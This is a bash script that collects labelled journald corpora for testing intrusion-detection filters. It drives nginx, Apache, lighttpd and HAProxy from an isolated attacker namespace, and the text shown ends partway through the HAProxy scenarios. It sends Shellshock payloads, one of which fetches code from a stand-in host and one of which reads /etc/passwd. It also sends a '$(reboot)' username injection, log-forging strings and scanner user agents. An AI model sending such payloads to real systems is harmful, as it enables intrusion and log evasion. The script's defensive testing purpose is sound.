#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# Collects REAL journal entries of nginx, Apache httpd, lighttpd and HAProxy for the web filter
# corpora tests/data/filters/{nginx-*,apache-*,lighttpd-auth,haproxy-http-auth}/real-*.export.
#
# Uses tests/lib/harness.sh: private mount/PID/cgroup/network namespaces, a private journald, each
# server in the cgroup /system.slice/UNIT (so journald adds _SYSTEMD_UNIT= as on a real host), and an
# attacker network namespace (10.77.0.2, fd00:77::2) that reaches the servers (10.77.0.1, fd00:77::1)
# over a veth pair and nothing else.  The host is not modified.
#
# How each server's log reaches the journal (the routing the filters document):
#   nginx     error_log syslog:server=unix:/dev/log,nohostname info;
#             access_log syslog:server=unix:/dev/log,nohostname combined;
#   apache2   ErrorLog syslog:local7  +  CustomLog "||/usr/bin/logger -t apache2-access -p local6.info --size 16384" combined
#   lighttpd  server.errorlog-use-syslog = "enable"
#   haproxy   log /dev/log local0  + option httplog
#
# Each scenario is announced by a marker entry (SYSLOG_IDENTIFIER=corpus-scenario) whose message is
# JSON: the scenario's name, the attacker address and user it uses, and the list of
# [filter, substring] pairs: an entry of that filter's units inside the scenario whose MESSAGE contains
# the substring must match with that address (and user); every other entry of the unit must not.  A
# substring "@TEXT" is for access log lines: TEXT, in a line that begins with the address; "!TEXT" for
# Apache error log lines: TEXT, in a line with "] [client ADDRESS:".  The
# annotation step below only uses these markers, never the filters' regexes.
#
# usage: sudo tools/collect-web-corpus.sh [OUTDIR]      (default: tests/data/filters)
set -u
TB_NAME=collect-web-corpus
. "$(dirname "$0")/../tests/lib/harness.sh"

if [ -z "${TB_IN_NS:-}" ]; then
        for p in nginx apache2 lighttpd haproxy curl socat logger openssl python3; do
                command -v "$p" >/dev/null || PATH=$PATH:/usr/sbin command -v "$p" >/dev/null || tb_die "missing $p"
        done
        out=${1:-$PC_SRC/tests/data/filters}
        raw=$(mktemp "${TMPDIR:-/tmp}/web-corpus.XXXXXX.export")
        trap 'rm -f "$raw"' EXIT
        TB_TIMEOUT=${TB_TIMEOUT:-180} CORPUS_RAW=$raw tb_run_ns --net -- "$@" || tb_die "collection failed"
        trap - EXIT
        [ -n "${CORPUS_KEEP_RAW:-}" ] && cp "$raw" "$CORPUS_KEEP_RAW"
        PYTHONPATH="$(dirname "$0")/lib" python3 - "$raw" "$out" <<'PY' || { rm -f "$raw"; tb_die "annotation failed"; }
import json, re, subprocess, sys
from corpus_export import read_export, write_field

raw, outdir = sys.argv[1], sys.argv[2]

# filter -> (units whose entries it reads, output file name, program version command)
FILTERS = {
    "nginx-http-auth": ("nginx.service",),
    "nginx-limit-req": ("nginx.service",),
    "nginx-botsearch": ("nginx.service",),
    "nginx-bad-request": ("nginx.service",),
    "apache-auth": ("apache2.service",),
    "apache-badbots": ("apache2.service",),
    "apache-noscript": ("apache2.service",),
    "apache-overflows": ("apache2.service",),
    "apache-shellshock": ("apache2.service",),
    "lighttpd-auth": ("lighttpd.service",),
    "haproxy-http-auth": ("haproxy.service",),
}
def version(cmd, rx):
    r = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    return re.search(rx, r.stdout).group(1)
VERSIONS = {
    "nginx.service": "nginx-" + version("/usr/sbin/nginx -v", r"nginx/(\S+)"),
    "apache2.service": "apache2-" + version("/usr/sbin/apache2 -v", r"Apache/(\S+)"),
    "lighttpd.service": "lighttpd-" + version("/usr/sbin/lighttpd -v", r"lighttpd/(\S+)"),
    "haproxy.service": "haproxy-" + version("/usr/sbin/haproxy -v", r"version (\d[\w.]*)"),
}

def get(e, k):
    for kk, v in e:
        if kk == k:
            return v.decode("utf-8", "replace")
    return None

entries = read_export(raw)
scenario = None
per_filter = {f: [] for f in FILTERS}
for e in entries:
    ident, unit, msg = get(e, "SYSLOG_IDENTIFIER"), get(e, "_SYSTEMD_UNIT"), get(e, "MESSAGE") or ""
    if ident == "corpus-scenario":
        scenario = json.loads(msg)
        continue
    if scenario is None:
        continue
    for filt, (funit,) in FILTERS.items():
        if unit == "forger.service" and ident in scenario.get("forged", []) and \
                any(ff == filt for ff, _ in scenario["match"]):
            expect = "unread"
        elif unit != funit:
            continue
        else:
            expect = "nomatch"
            for ff, sub in scenario["match"]:
                if sub.startswith("@"):  # an access log line: the address is its first field
                    sub = sub[1:] if msg.startswith(scenario["addr"] + " ") else None
                elif sub.startswith("!"):  # an Apache error log line about this client
                    sub = sub[1:] if "] [client " + scenario["addr"] + ":" in msg else None
                if ff == filt and sub is not None and sub in msg:
                    expect = "match host=" + scenario["addr"]
                    if scenario.get("user") is not None:
                        expect += " user=" + scenario["user"]
        ee = [(k, v) for k, v in e if not k.startswith("__CURSOR")]
        ee.append(("PORTCULLIS_SCENARIO", scenario["name"].encode()))
        ee.append(("PORTCULLIS_EXPECT", expect.encode()))
        per_filter[filt].append(ee)

import os
for filt, es in per_filter.items():
    if not es:
        sys.exit(f"no entries for {filt}")
    d = os.path.join(outdir, filt)
    os.makedirs(d, exist_ok=True)
    name = os.path.join(d, "real-" + VERSIONS[FILTERS[filt][0]] + ".export")
    with open(name, "wb") as f:
        for e in es:
            for k, v in e:
                write_field(f, k, v)
            f.write(b"\n")
    kinds = [get(e, "PORTCULLIS_EXPECT").split()[0] for e in es]
    print(f"{name}: {len(es)} entries, {kinds.count('match')} match, {kinds.count('nomatch')} nomatch, "
          f"{kinds.count('unread')} unread")
PY
        rm -f "$raw"
        exit 0
fi

# ---------------------------------------------------------------------------------------------
# Inside the namespaces.
PATH=$PATH:/usr/sbin
T=$TB_TMP
tb_private_fs
tb_private_dev
tb_journald_start
tb_net_setup
S4=$TB_SRV4 S6=$TB_SRV6 A4=$TB_ATK4 A6=$TB_ATK6

mkdir -p "$T/www/secret" "$T/www/admin" "$T/www/digest" "$T/www/limited" "$T/www/dry" "$T/www/slow" \
        "$T/www/denied" "$T/cgi-bin" "$T/nginx-tmp" "$T/apache-run" "$T/lighttpd-up"
echo hello >"$T/www/index.html"
for d in secret admin digest limited dry slow denied; do echo "$d" >"$T/www/$d/index.html"; done
printf '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\nok\\n"\n' >"$T/cgi-bin/hello.sh"
chmod 0755 "$T/cgi-bin/hello.sh"
chmod -R a+rX "$T/www" "$T/cgi-bin"
chown www-data "$T/nginx-tmp" "$T/lighttpd-up"
{
        echo "alice:$(openssl passwd -apr1 alice-secret)"
        echo "bob:$(openssl passwd -apr1 bob-secret)"
} >"$T/htpasswd"
echo "carol:digest-realm:$(printf 'carol:digest-realm:carol-secret' | md5sum | cut -d' ' -f1)" >"$T/htdigest"
chmod 0644 "$T/htpasswd" "$T/htdigest"

# ------------------------------- nginx -------------------------------
cat >"$T/nginx.conf" <<EOF
user www-data;
worker_processes 1;
pid $T/nginx.pid;
error_log syslog:server=unix:/dev/log,nohostname info;
events { worker_connections 64; }
http {
        client_body_temp_path $T/nginx-tmp/body;
        proxy_temp_path $T/nginx-tmp/proxy;
        fastcgi_temp_path $T/nginx-tmp/fastcgi;
        uwsgi_temp_path $T/nginx-tmp/uwsgi;
        scgi_temp_path $T/nginx-tmp/scgi;
        access_log syslog:server=unix:/dev/log,nohostname combined;
        limit_req_zone \$binary_remote_addr zone=one:1m rate=1r/m;
        limit_req_zone \$binary_remote_addr zone=two:1m rate=1r/m;
        limit_req_zone \$binary_remote_addr zone=three:1m rate=1r/m;
        server {
                listen $S4:80;
                listen [$S6]:80;
                server_name www.example.test;
                root $T/www;
                location /secret/ { auth_basic "restricted"; auth_basic_user_file $T/htpasswd; }
                location /limited/ { limit_req zone=one burst=1 nodelay; }
                location /dry/ { limit_req zone=two; limit_req_dry_run on; }
                location /slow/ { limit_req zone=three burst=3; }
        }
}
EOF
nginx -t -c "$T/nginx.conf" -g 'daemon off;' >/dev/null 2>&1 || { nginx -t -c "$T/nginx.conf"; tb_die "nginx config"; }
tb_spawn nginx.service "$T/nginx.out" /usr/sbin/nginx -c "$T/nginx.conf" -g 'daemon off;'
NGINX=$TB_SPAWNED_PID

# ------------------------------- apache2 -----------------------------
M=/usr/lib/apache2/modules
cat >"$T/apache2.conf" <<EOF
ServerRoot /etc/apache2
ServerName www.example.test
DefaultRuntimeDir $T/apache-run
PidFile $T/apache-run/apache2.pid
Mutex file:$T/apache-run default
User www-data
Group www-data
LoadModule mpm_event_module $M/mod_mpm_event.so
LoadModule authn_core_module $M/mod_authn_core.so
LoadModule authn_file_module $M/mod_authn_file.so
LoadModule authz_core_module $M/mod_authz_core.so
LoadModule authz_user_module $M/mod_authz_user.so
LoadModule authz_host_module $M/mod_authz_host.so
LoadModule auth_basic_module $M/mod_auth_basic.so
LoadModule auth_digest_module $M/mod_auth_digest.so
LoadModule alias_module $M/mod_alias.so
LoadModule cgid_module $M/mod_cgid.so
LoadModule mime_module $M/mod_mime.so
LoadModule dir_module $M/mod_dir.so
TypesConfig /etc/mime.types
ScriptSock $T/apache-run/cgisock
Listen $S4:8080
Listen [$S6]:8080
ErrorLog syslog:local7
LogLevel warn core:info
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
CustomLog "||/usr/bin/logger -t apache2-access -p local6.info --size 16384" combined
DocumentRoot $T/www
DirectoryIndex index.html
<Directory />
        Require all denied
</Directory>
<Directory $T/www>
        Require all granted
</Directory>
<Location /secret/>
        AuthType Basic
        AuthName "restricted"
        AuthUserFile $T/htpasswd
        Require valid-user
</Location>
<Location /admin/>
        AuthType Basic
        AuthName "admin"
        AuthUserFile $T/htpasswd
        Require user alice
</Location>
<Location /digest/>
        AuthType Digest
        AuthName "digest-realm"
        AuthDigestProvider file
        AuthUserFile $T/htdigest
        Require valid-user
</Location>
<Location /denied/>
        Require ip 192.0.2.1
</Location>
ScriptAlias /cgi-bin/ $T/cgi-bin/
<Directory $T/cgi-bin>
        Options +ExecCGI
        Require all granted
</Directory>
EOF
apache2 -t -f "$T/apache2.conf" >/dev/null 2>&1 || { apache2 -t -f "$T/apache2.conf"; tb_die "apache2 config"; }
tb_spawn apache2.service "$T/apache2.out" /usr/sbin/apache2 -f "$T/apache2.conf" -DFOREGROUND
APACHE=$TB_SPAWNED_PID

# ------------------------------- lighttpd ----------------------------
cat >"$T/lighttpd.conf" <<EOF
server.document-root = "$T/www"
server.bind = "$S4"
server.port = 8081
\$SERVER["socket"] == "[$S6]:8081" { }
server.pid-file = "$T/lighttpd.pid"
server.username = "www-data"
server.groupname = "www-data"
server.upload-dirs = ( "$T/lighttpd-up" )
server.errorlog-use-syslog = "enable"
server.syslog-facility = "daemon"
index-file.names = ( "index.html" )
server.modules = ( "mod_auth", "mod_authn_file" )
auth.backend = "htpasswd"
auth.backend.htpasswd.userfile = "$T/htpasswd"
auth.require = ( "/secret/" => ( "method" => "basic", "realm" => "restricted", "require" => "valid-user" ),
                 "/admin/" => ( "method" => "basic", "realm" => "admin", "require" => "user=alice" ) )
EOF
lighttpd -tt -f "$T/lighttpd.conf" || tb_die "lighttpd config"
tb_spawn lighttpd.service "$T/lighttpd.out" /usr/sbin/lighttpd -D -f "$T/lighttpd.conf"
LIGHTTPD=$TB_SPAWNED_PID

# ------------------------------- haproxy -----------------------------
cat >"$T/haproxy.cfg" <<EOF
global
        log /dev/log local0
        pidfile $T/haproxy.pid
defaults
        mode http
        log global
        option httplog
        timeout connect 5s
        timeout client 5s
        timeout server 5s
userlist admins
        user alice insecure-password alice-secret
frontend fe
        bind $S4:8082
        bind [$S6]:8082
        http-request auth realm admin unless { http_auth(admins) }
        default_backend be
backend be
        server web $S4:80
EOF
haproxy -c -f "$T/haproxy.cfg" >/dev/null || tb_die "haproxy config"
tb_spawn haproxy.service "$T/haproxy.out" /usr/sbin/haproxy -db -f "$T/haproxy.cfg"
HAPROXY=$TB_SPAWNED_PID

for p in "$S4:80" "$S4:8080" "$S4:8081" "$S4:8082"; do
        tb_wait_for 10 sh -c "ss -Hltn | grep -q '$p'" || { cat "$T"/*.out >&2; tb_die "nothing listens on $p"; }
done
tb_log "servers up"

# forged entries: same identifiers, written by a process of another unit
for id in nginx apache2 apache2-access lighttpd haproxy; do pc_writer_start "$id" forger.service; done

# scenario JSON: name addr user match... (match: FILTER=SUBSTRING); user "-" = none
scenario() {
        local name=$1 addr=$2 user=$3 m sep='' js
        shift 3
        sleep 0.4
        js="{\"name\":$(pc_json_string "$name"),\"addr\":$(pc_json_string "$addr"),"
        if [ "$user" != - ]; then js+="\"user\":$(pc_json_string "$user"),"; fi
        js+="\"forged\":[\"nginx\",\"apache2\",\"apache2-access\",\"lighttpd\",\"haproxy\"],\"match\":["
        for m in "$@"; do js+="$sep[$(pc_json_string "${m%%=*}"),$(pc_json_string "${m#*=}")]"; sep=,; done
        js+="]}"
        logger -t corpus-scenario -- "$js"
        tb_log "scenario $name"
}
C=(timeout 10 curl -s -o /dev/null --max-time 5 -g)
atk() { tb_attacker "$@" >/dev/null 2>&1; }
u4() { echo "http://$S4:$1"; }
u6() { echo "http://[$S6]:$1"; }
# raw PORT ADDR DATA: send raw bytes (printf format) and wait for the answer
raw() {
        local a=$2
        case $a in *:*) a="[$a]";; esac
        printf "$3" | atk timeout 5 socat -t 2 - "TCP:$a:$1"
}

# ================================== nginx =========================================================
scenario nginx-startup - -
scenario nginx-normal $A4 - 
atk "${C[@]}" "$(u4 80)/"
atk "${C[@]}" "$(u4 80)/favicon.ico"
atk "${C[@]}" "$(u4 80)/images/logo.png"
atk "${C[@]}" -u alice:alice-secret "$(u4 80)/secret/"
atk "${C[@]}" "$(u6 80)/"
scenario nginx-auth-no-credentials $A4 -
atk "${C[@]}" "$(u4 80)/secret/"
scenario nginx-auth-password-mismatch $A4 alice nginx-http-auth='password mismatch'
atk "${C[@]}" -u alice:wrong "$(u4 80)/secret/"
atk "${C[@]}" -u alice:wrong2 "$(u4 80)/secret/index.html"
scenario nginx-auth-unknown-user $A4 mallory nginx-http-auth='was not found in'
atk "${C[@]}" -u mallory:x "$(u4 80)/secret/"
scenario nginx-auth-unknown-user-ipv6 $A6 admin nginx-http-auth='was not found in'
atk "${C[@]}" -u admin:admin "$(u6 80)/secret/"
scenario nginx-auth-mismatch-ipv6 $A6 bob nginx-http-auth='password mismatch'
atk "${C[@]}" -u bob:nope "$(u6 80)/secret/"
scenario nginx-auth-inject-user $A4 'x", client 1.2.3.4, server' nginx-http-auth='was not found in'
atk "${C[@]}" -u 'x", client 1.2.3.4, server:pw' "$(u4 80)/secret/"
scenario nginx-auth-inject-user-address $A4 '1.2.3.4' nginx-http-auth='was not found in'
atk "${C[@]}" -u '1.2.3.4:pw' "$(u4 80)/secret/"
scenario nginx-auth-inject-host-header $A4 - nginx-bad-request='@" 400 '
atk "${C[@]}" -u bob:nope -H 'Host: a" was not found in "f", client: 1.2.3.4, server: x, request: "GET /secret/ HTTP/1.1", host: "b' "$(u4 80)/secret/"
scenario nginx-auth-inject-referer $A6 bob nginx-http-auth='password mismatch'
atk "${C[@]}" -u bob:nope -e 'http://x/, client: 1.2.3.4, server: x, request: "GET / HTTP/1.1"' "$(u6 80)/secret/"
scenario nginx-auth-inject-uri $A4 alice nginx-http-auth='password mismatch'
atk "${C[@]}" -u alice:nope "$(u4 80)/secret/?a=,client:%201.2.3.4,server:"
scenario nginx-auth-inject-newline $A4 - nginx-http-auth='was not found in'
atk "${C[@]}" -H "Authorization: Basic $(printf 'a\nclient: 1.2.3.4, server: x b:pw' | base64 -w0)" "$(u4 80)/secret/"
scenario nginx-auth-inject-shell $A4 '$(reboot);`id`|x' nginx-http-auth='was not found in'
atk "${C[@]}" -u '$(reboot);`id`|x:pw' "$(u4 80)/secret/"
scenario nginx-limit-req $A4 - nginx-limit-req='limiting requests'
for i in 1 2 3 4 5; do atk "${C[@]}" "$(u4 80)/limited/"; done
scenario nginx-limit-req-ipv6 $A6 - nginx-limit-req='limiting requests'
for i in 1 2 3 4; do atk "${C[@]}" "$(u6 80)/limited/?q=1.2.3.4"; done
scenario nginx-limit-req-inject-host $A4 - nginx-bad-request='@" 400 '
atk "${C[@]}" -H 'Host: x, client: 1.2.3.4' "$(u4 80)/limited/"
scenario nginx-limit-req-inject-referer $A4 - nginx-limit-req='limiting requests'
atk "${C[@]}" -e 'http://x/", client: 1.2.3.4, server: y, request: "GET / HTTP/1.1' "$(u4 80)/limited/"
scenario nginx-limit-req-dry-run $A4 -
for i in 1 2 3 4; do atk "${C[@]}" "$(u4 80)/dry/"; done
scenario nginx-limit-req-delay $A6 -
pids=(); for i in 1 2 3; do atk "${C[@]}" "$(u6 80)/slow/" & pids+=($!); done; wait "${pids[@]}"
scenario nginx-botsearch $A4 - nginx-botsearch='@" 404 '
for p in /wp-login.php /xmlrpc.php /wp-admin/setup-config.php /phpmyadmin/ /pma/index.php /.env /.git/config \
        /cgi-bin/luci /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /admin/config.php /HNAP1/ /boaform/admin/formLogin; do
        atk "${C[@]}" "$(u4 80)$p"
done
atk "${C[@]}" -X POST -d x=1 "$(u4 80)/xmlrpc.php"
scenario nginx-botsearch-ipv6 $A6 - nginx-botsearch='@" 404 '
atk "${C[@]}" "$(u6 80)/wordpress/wp-login.php"
atk "${C[@]}" "$(u6 80)/phpMyAdmin/index.php"
scenario nginx-botsearch-inject $A4 - nginx-botsearch='@" 404 '
atk "${C[@]}" -A '1.2.3.4 - - [01/Jan/2025:00:00:00 +0000] "GET /wp-login.php HTTP/1.1" 404' "$(u4 80)/wp-login.php?1.2.3.4"
atk "${C[@]}" -e 'http://1.2.3.4/wp-login.php' "$(u4 80)/.env"
scenario nginx-not-bots $A4 -
atk "${C[@]}" "$(u4 80)/blog/2024/wp-login-tips.html"
atk "${C[@]}" "$(u4 80)/robots.txt"
atk "${C[@]}" -A 'Mozilla/5.0 (X11; Linux x86_64) wp-login.php' "$(u4 80)/"
scenario nginx-bad-request $A4 - nginx-bad-request='@" 400 '
raw 80 $S4 'GARBAGE\r\n\r\n'
raw 80 $S4 'SSH-2.0-Go\r\n'
raw 80 $S4 'GET / HTTP/1.1\r\n\r\n'
raw 80 $S4 'GET /a b HTTP/1.1\r\nHost: x\r\n\r\n'
raw 80 $S4 '\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03'
raw 80 $S4 'GET / HTTP/1.1\r\nHost: x\r\nBroken header\r\n\r\n'
scenario nginx-bad-request-ipv6 $A6 - nginx-bad-request='@" 400 '
raw 80 $S6 'HELLO\r\n\r\n'
raw 80 $S6 'GET / HTTP/1.1\r\nHost: a/b\r\n\r\n'
scenario nginx-bad-request-inject $A4 - nginx-bad-request='@" 400 '
raw 80 $S4 '1.2.3.4 - - [01/Jan/2025:00:00:00 +0000] "x" 400 0\r\n\r\n'
scenario nginx-idle-connection $A4 -
raw 80 $S4 ''
scenario nginx-forged $A4 - nginx-http-auth=x nginx-limit-req=x nginx-botsearch=x nginx-bad-request=x
pc_write nginx '2025/01/01 00:00:00 [error] 12#12: *1 user "root" was not found in "/etc/nginx/htpasswd", client: 10.77.0.99, server: _, request: "GET / HTTP/1.1", host: "x"'
pc_write nginx '2025/01/01 00:00:00 [error] 12#12: *2 limiting requests, excess: 5.000 by zone "one", client: 10.77.0.99, server: _, request: "GET / HTTP/1.1", host: "x"'
pc_write nginx '10.77.0.99 - - [01/Jan/2025:00:00:00 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" "curl/7.88.1"'
pc_write nginx '10.77.0.99 - - [01/Jan/2025:00:00:00 +0000] "GARBAGE" 400 157 "-" "-"'
pc_write_wait nginx 4

# ================================== apache2 =======================================================
scenario apache-normal $A4 -
atk "${C[@]}" "$(u4 8080)/"
atk "${C[@]}" -u alice:alice-secret "$(u4 8080)/secret/"
atk "${C[@]}" -u alice:alice-secret "$(u4 8080)/admin/"
atk "${C[@]}" "$(u4 8080)/cgi-bin/hello.sh"
atk "${C[@]}" -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' "$(u6 8080)/"
atk "${C[@]}" --digest -u carol:carol-secret "$(u4 8080)/digest/"
scenario apache-auth-no-credentials $A4 -
atk "${C[@]}" "$(u4 8080)/secret/"
scenario apache-auth-mismatch $A4 alice apache-auth='authentication failure for'
atk "${C[@]}" -u alice:wrong "$(u4 8080)/secret/"
scenario apache-auth-unknown-user $A4 mallory apache-auth='not found: '
atk "${C[@]}" -u mallory:x "$(u4 8080)/secret/"
scenario apache-auth-unknown-user-ipv6 $A6 admin apache-auth='not found: '
atk "${C[@]}" -u admin:admin "$(u6 8080)/secret/"
scenario apache-auth-mismatch-ipv6 $A6 bob apache-auth='authentication failure for'
atk "${C[@]}" -u bob:x "$(u6 8080)/secret/"
scenario apache-authz-user $A4 bob apache-auth='authorization failure for'
atk "${C[@]}" -u bob:bob-secret "$(u4 8080)/admin/"
scenario apache-auth-wrong-scheme $A4 - apache-auth='wrong authentication scheme'
atk "${C[@]}" -H 'Authorization: Bearer abc' "$(u4 8080)/secret/"
scenario apache-digest-unknown-user $A4 mallory apache-auth='not found: '
atk "${C[@]}" --digest -u mallory:x "$(u4 8080)/digest/"
scenario apache-digest-mismatch $A6 carol apache-auth='password mismatch'
atk "${C[@]}" --digest -u carol:x "$(u6 8080)/digest/"
scenario apache-auth-inject-user $A4 'x [client 1.2.3.4' apache-auth='not found: '
atk "${C[@]}" -u 'x [client 1.2.3.4:1] :pw' "$(u4 8080)/secret/"
scenario apache-auth-inject-user-address $A6 '1.2.3.4' apache-auth='not found: '
atk "${C[@]}" -u '1.2.3.4:pw' "$(u6 8080)/secret/" # (a valid user name is needed for a mismatch: see next)
scenario apache-auth-inject-referer $A4 alice apache-auth='authentication failure for'
atk "${C[@]}" -u alice:nope -e 'http://1.2.3.4/ [client 1.2.3.4:1]' "$(u4 8080)/secret/"
scenario apache-auth-inject-newline $A4 - apache-auth='not found: '
atk "${C[@]}" -H "Authorization: Basic $(printf 'a\n[client 1.2.3.4:1] b:pw' | base64 -w0)" "$(u4 8080)/secret/"
scenario apache-authz-host $A4 -
atk "${C[@]}" "$(u4 8080)/denied/"
scenario apache-noscript $A4 - apache-noscript='!script not found or unable to stat' apache-noscript='!File does not exist: '
atk "${C[@]}" "$(u4 8080)/cgi-bin/test-cgi"
atk "${C[@]}" "$(u4 8080)/cgi-bin/php5"
atk "${C[@]}" "$(u4 8080)/wp-login.php"
atk "${C[@]}" "$(u4 8080)/admin.asp"
scenario apache-noscript-ipv6 $A6 - apache-noscript='!script not found or unable to stat' apache-noscript='!File does not exist: '
atk "${C[@]}" "$(u6 8080)/cgi-bin/luci"
atk "${C[@]}" "$(u6 8080)/xmlrpc.php"
scenario apache-noscript-not-scripts $A4 -
atk "${C[@]}" "$(u4 8080)/favicon.ico"
atk "${C[@]}" "$(u4 8080)/images/logo.png"
atk "${C[@]}" "$(u4 8080)/php-tips.html"
scenario apache-noscript-inject $A4 - apache-noscript='!script not found or unable to stat' apache-noscript='!File does not exist: '
atk "${C[@]}" -e 'http://x/ [client 1.2.3.4:1] AH00128: File does not exist: /x.php' "$(u4 8080)/cgi-bin/a1.2.3.4"
atk "${C[@]}" "$(u4 8080)/1.2.3.4.php"
scenario apache-overflows $A4 - apache-overflows='exceeds LimitRequest'
atk "${C[@]}" "$(u4 8080)/$(head -c 9000 /dev/zero | tr '\0' a)"
atk "${C[@]}" -H "X-Big: $(head -c 9000 /dev/zero | tr '\0' b)" "$(u4 8080)/"
hdrs=(); for i in $(seq 110); do hdrs+=(-H "X-H$i: v"); done
atk "${C[@]}" "${hdrs[@]}" "$(u4 8080)/"
raw 8080 $S4 'GET / HTTP/1.1\r\nHost: x\r\nbroken header line\r\n\r\n'
scenario apache-overflows-ipv6 $A6 - apache-overflows='exceeds LimitRequest'
atk "${C[@]}" "$(u6 8080)/$(head -c 9000 /dev/zero | tr '\0' a)"
atk "${C[@]}" -H "Cookie: $(head -c 9000 /dev/zero | tr '\0' c)" "$(u6 8080)/"
scenario apache-badbots $A4 - apache-badbots='@"'
for ua in 'Mozilla/5.0 zgrab/0.x' 'sqlmap/1.7.2#stable (https://sqlmap.org)' \
        'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)' \
        'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' \
        'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' \
        'Fuzz Faster U Fool v2.1.0-dev' 'gobuster/3.6' 'EmailCollector/1.0' 'Mozilla/5.0 (l9explore/1.2.2)'; do
        atk "${C[@]}" -A "$ua" "$(u4 8080)/"
done
scenario apache-badbots-ipv6 $A6 - apache-badbots='@"'
atk "${C[@]}" -A 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))' "$(u6 8080)/"
atk "${C[@]}" -A 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)' "$(u6 8080)/x"
scenario apache-badbots-inject $A4 - apache-badbots='@"'
atk "${C[@]}" -A '1.2.3.4 - - [01/Jan/2025:00:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "sqlmap/1.0"' "$(u4 8080)/"
atk "${C[@]}" -A 'x" "sqlmap/1.0' "$(u4 8080)/"
scenario apache-not-badbots $A4 -
atk "${C[@]}" -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36' "$(u4 8080)/"
atk "${C[@]}" -A 'curl/7.88.1' "$(u4 8080)/"
atk "${C[@]}" -A 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' "$(u4 8080)/"
atk "${C[@]}" -e 'http://example.test/?ua=sqlmap' "$(u4 8080)/nikto-review.html"
scenario apache-shellshock $A4 - apache-shellshock='@"'
atk "${C[@]}" -A '() { :; }; /bin/bash -c "wget http://192.0.2.7/x -O /tmp/x"' "$(u4 8080)/cgi-bin/hello.sh"
atk "${C[@]}" -e '() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd' "$(u4 8080)/cgi-bin/hello.sh"
atk "${C[@]}" -A '(){:;}; echo; /bin/id' "$(u4 8080)/"
scenario apache-shellshock-ipv6 $A6 - apache-shellshock='@"'
atk "${C[@]}" -A '() { :;}; /bin/sleep 5' "$(u6 8080)/cgi-bin/hello.sh"
scenario apache-shellshock-inject $A4 - apache-shellshock='@"'
atk "${C[@]}" -A '() { :; }; 1.2.3.4 - - [01/Jan/2025:00:00:00 +0000]' "$(u4 8080)/"
scenario apache-not-shellshock $A4 -
atk "${C[@]}" -A 'Mozilla/5.0 (compatible; MSIE 9.0) ()' "$(u4 8080)/"
atk "${C[@]}" "$(u4 8080)/search?q=()%20%7B"
scenario apache-forged $A4 - apache-auth=x apache-noscript=x apache-overflows=x apache-badbots=x apache-shellshock=x
pc_write apache2 '[auth_basic:error] [pid 99:tid 99] [client 10.77.0.99:4000] AH01618: user root not found: /secret/'
pc_write apache2 '[cgid:error] [pid 99:tid 99] [client 10.77.0.99:4000] AH01264: script not found or unable to stat: /usr/lib/cgi-bin/x'
pc_write apache2 '[core:info] [pid 99:tid 99] [client 10.77.0.99:4000] AH00565: request failed: URI too long (longer than 8190)'
pc_write apache2-access '10.77.0.99 - - [01/Jan/2025:00:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "sqlmap/1.0"'
pc_write apache2-access '10.77.0.99 - - [01/Jan/2025:00:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "() { :; }; /bin/id"'
pc_write_wait apache2 3; pc_write_wait apache2-access 2

# ================================== lighttpd ======================================================
scenario lighttpd-normal $A4 -
atk "${C[@]}" "$(u4 8081)/"
atk "${C[@]}" "$(u4 8081)/missing.html"
atk "${C[@]}" -u alice:alice-secret "$(u4 8081)/secret/"
atk "${C[@]}" "$(u6 8081)/"
scenario lighttpd-auth-no-credentials $A4 -
atk "${C[@]}" "$(u4 8081)/secret/"
scenario lighttpd-auth-mismatch $A4 alice lighttpd-auth="password doesn't match"
atk "${C[@]}" -u alice:wrong "$(u4 8081)/secret/"
scenario lighttpd-auth-unknown-user $A4 mallory lighttpd-auth='mallory'
atk "${C[@]}" -u mallory:x "$(u4 8081)/secret/"
scenario lighttpd-auth-mismatch-ipv6 $A6 bob lighttpd-auth="password doesn't match"
atk "${C[@]}" -u bob:x "$(u6 8081)/secret/"
scenario lighttpd-auth-unknown-user-ipv6 $A6 root lighttpd-auth='root'
atk "${C[@]}" -u root:x "$(u6 8081)/secret/"
scenario lighttpd-authz-user $A4 bob lighttpd-auth='bob'
atk "${C[@]}" -u bob:bob-secret "$(u4 8081)/admin/"
scenario lighttpd-auth-inject-user $A4 'x IP%3a 1.2.3.4' lighttpd-auth='x IP'
atk "${C[@]}" -u 'x IP%3a 1.2.3.4:pw' "$(u4 8081)/secret/"
scenario lighttpd-auth-inject-user-colon $A4 'x IP' lighttpd-auth='x IP'
atk "${C[@]}" -H "Authorization: Basic $(printf 'x IP: 1.2.3.4:pw' | base64 -w0)" "$(u4 8081)/secret/"
scenario lighttpd-auth-inject-uri $A4 alice lighttpd-auth="password doesn't match"
atk "${C[@]}" -u alice:wrong "$(u4 8081)/secret/?username:%20x%20IP:%201.2.3.4"
scenario lighttpd-forged $A4 - lighttpd-auth=x
pc_write lighttpd "(mod_auth.c.525) password doesn't match for /secret/ username: root IP: 10.77.0.99"
pc_write_wait lighttpd 1

# ================================== haproxy =======================================================
scenario haproxy-normal $A4 -
atk "${C[@]}" -u alice:alice-secret "$(u4 8082)/"
atk "${C[@]}" -u alice:alice-secret "$(u6 8082)/missing"
